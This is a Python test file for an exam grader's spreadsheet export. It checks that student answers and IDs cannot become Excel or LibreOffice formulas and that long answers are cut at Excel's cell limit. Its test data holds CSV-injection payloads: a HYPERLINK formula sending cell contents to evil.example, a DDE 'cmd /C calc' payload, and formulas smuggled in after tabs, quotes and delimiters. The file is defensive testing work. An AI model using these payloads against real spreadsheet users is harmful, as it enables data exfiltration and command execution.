"""The grade report opened in a spreadsheet: no cell becomes a formula (OWASP "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection), no cell is longer than Excel takes,
and the HTML report and `check --json` keep the answers as typed (issue 13)."""
import csv
import io
import json

import pytest

from autodiff.cli import main
from rnn.exam.grade import CELL_LIMIT, FORMULA_STARTS, csv_rows, grade, spreadsheet_cell, write_csv, write_html
from rnn.exam.questions import get_question
from tests import consumers

QUESTION = get_question("rnn/grad_h_tau")     # V^T grad_o^(tau), eq. 10.19
HOSTILE = [
    ("ana", "-V.T @ grad_o[tau]"),                              # a real answer, a sign flip
    ("ben", '=HYPERLINK("http://evil.example/?"&A1,"marks")'),
    ("cy", "+V.T @ grad_o[tau]"),
    ("dee", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "V.T @ grad_o[tau]"),                            # a tab, then a formula, as the id
    ("=2+5", "V.T @ grad_o[tau]"),
    ("eve", "V.T @ grad_o[tau];=1+1"),                          # a formula after a ; delimiter
    ("fay", 'V.T @ grad_o[tau]",=1+1,"'),                       # a formula after a quote and a comma
    ("gus", "\r=1+1"),
]


def _answers_csv(pairs, delimiter=","):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")  # quotes a field with a CR
    writer.writerow(["student", "answer"])
    writer.writerows(pairs)
    return buffer.getvalue()


def _report_cells(path, delimiter=","):
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.reader(f, delimiter=delimiter))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_a_formula_gets_an_apostrophe(start):
    assert spreadsheet_cell(f"{start}1+1") == (f"'{start}1+1", "")


def test_other_cells_are_unchanged():
    for value in ("V.T @ grad_o[tau]", "ana", "'already text", " =1+1", "0.0123", ""):
        assert spreadsheet_cell(value) == (value, "")


def test_owasp_examples_are_escaped_as_the_page_shows(tmp_path):
    """OWASP's two examples, in the answer column: wrapped in quotes, an apostrophe first,
    inner quotes doubled; both are read back whole by the csv module."""
    report = grade(QUESTION, _answers_csv([("ana", '=1+2";=1+2'), ("ben", "=1+2'\" ;,=1+2")]))
    write_csv(report, tmp_path / "marks.csv")
    text = (tmp_path / "marks.csv").read_text(encoding="utf-8-sig")
    assert '"\'=1+2"";=1+2"' in text and '"\'=1+2\'"" ;,=1+2"' in text
    answers = [row[3] for row in _report_cells(tmp_path / "marks.csv")[1:]]
    assert answers == ["'=1+2\";=1+2", "'=1+2'\" ;,=1+2"]


def test_every_cell_of_the_report_is_quoted_and_none_starts_a_formula(tmp_path):
    report = grade(QUESTION, _answers_csv(HOSTILE))
    write_csv(report, tmp_path / "marks.csv")
    lines = (tmp_path / "marks.csv").read_text(encoding="utf-8-sig").split("\r\n")
    assert all(line.startswith('"') for line in lines if line)
    for row in _report_cells(tmp_path / "marks.csv"):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


def test_tab_of_an_id_is_kept_behind_the_apostrophe(tmp_path):
    report = grade(QUESTION, _answers_csv(HOSTILE))
    write_csv(report, tmp_path / "marks.csv")
    students = [row[1] for row in _report_cells(tmp_path / "marks.csv")[1:]]
    assert "'\t=1+1" in students and "'=2+5" in students


def test_html_and_json_keep_the_answer_as_typed(tmp_path, capsys):
    report = grade(QUESTION, _answers_csv(HOSTILE))
    write_csv(report, tmp_path / "marks.csv")
    write_html(report, tmp_path / "marks.html", QUESTION)
    assert "<code>-V.T @ grad_o[tau]</code>" in (tmp_path / "marks.html").read_text(encoding="utf-8")
    assert report.rows[0].answer == "-V.T @ grad_o[tau]" and report.rows[0].mistake == "sign-flip"
    assert main(["check", QUESTION.id, "--answer", "-V.T @ grad_o[tau]", "--json"]) == 1
    assert json.loads(capsys.readouterr().out)["answer"] == "-V.T @ grad_o[tau]"


def test_an_answer_longer_than_excel_takes_is_cut_with_a_note(tmp_path):
    long = "V.T @ grad_o[tau]" + " + 0*h[tau]" * 4000          # 44,017 characters
    report = grade(QUESTION, _answers_csv([("ana", long), ("ben", "V.T @ grad_o[tau]")]))
    write_csv(report, tmp_path / "marks.csv")
    write_html(report, tmp_path / "marks.html", QUESTION)
    header, ana, ben = _report_cells(tmp_path / "marks.csv")
    cells = dict(zip(header, ana))
    assert len(cells["answer"]) == CELL_LIMIT and long.startswith(cells["answer"])
    assert f"answer cut to 32,767 characters, Excel's cell limit (it has {len(long):,})" in cells["notes"]
    assert dict(zip(header, ben))["notes"] == ""
    assert long in (tmp_path / "marks.html").read_text(encoding="utf-8")


def test_the_limit_counts_utf16_units_and_never_splits_a_character():
    """Excel counts UTF-16 code units: a character beyond the BMP takes two."""
    cell, note = spreadsheet_cell("𝐡" * CELL_LIMIT)
    assert cell == "𝐡" * (CELL_LIMIT // 2) and note
    cell, note = spreadsheet_cell("-" + "h" * (CELL_LIMIT - 1))
    assert cell == "'-" + "h" * (CELL_LIMIT - 2) and note


def test_notes_cell_is_made_safe_too():
    report = grade(QUESTION, _answers_csv([("=1+1", "V.T @ grad_o[tau]"), ("=1+1", "h[tau]")]))
    rows = list(csv_rows(report))
    assert [row[-1] for row in rows[1:]] == ["student id also on line 3", "student id also on line 2"]


@pytest.mark.needs_libreoffice
@pytest.mark.parametrize("delimiter", [",", ";"], ids=["comma", "semicolon"])
def test_libreoffice_opens_the_report_without_a_single_formula(tmp_path, delimiter):
    """LibreOffice Calc, told to evaluate formulas, opens the report: no cell holds a formula
    and every cell shows the text the csv module reads (numbers as numbers). The control, the
    students' own file, does get formulas, so the import really evaluates them."""
    answers = tmp_path / "answers.csv"
    answers.write_text(_answers_csv(HOSTILE, delimiter), encoding="utf-8")
    control = consumers.spreadsheet_cells(answers, tmp_path / "control", delimiter)
    assert sum(formula is not None for row in control for _, formula in row) >= 2

    assert main(["grade", QUESTION.id, str(answers), "-o", str(tmp_path / "marks")]) == 0
    expected = _report_cells(tmp_path / "marks.csv", delimiter)
    opened = consumers.spreadsheet_cells(tmp_path / "marks.csv", tmp_path / "calc", delimiter)
    assert len(opened) == len(expected) == len(HOSTILE) + 1
    for want, got in zip(expected, opened):
        assert [formula for _, formula in got] == [None] * len(got), got
        for i, (text, _) in enumerate(got):
            if want[0] != "line" and expected[0][i] in ("line", "seconds"):
                assert float(text) == float(want[i])
            else:
                assert text == want[i]
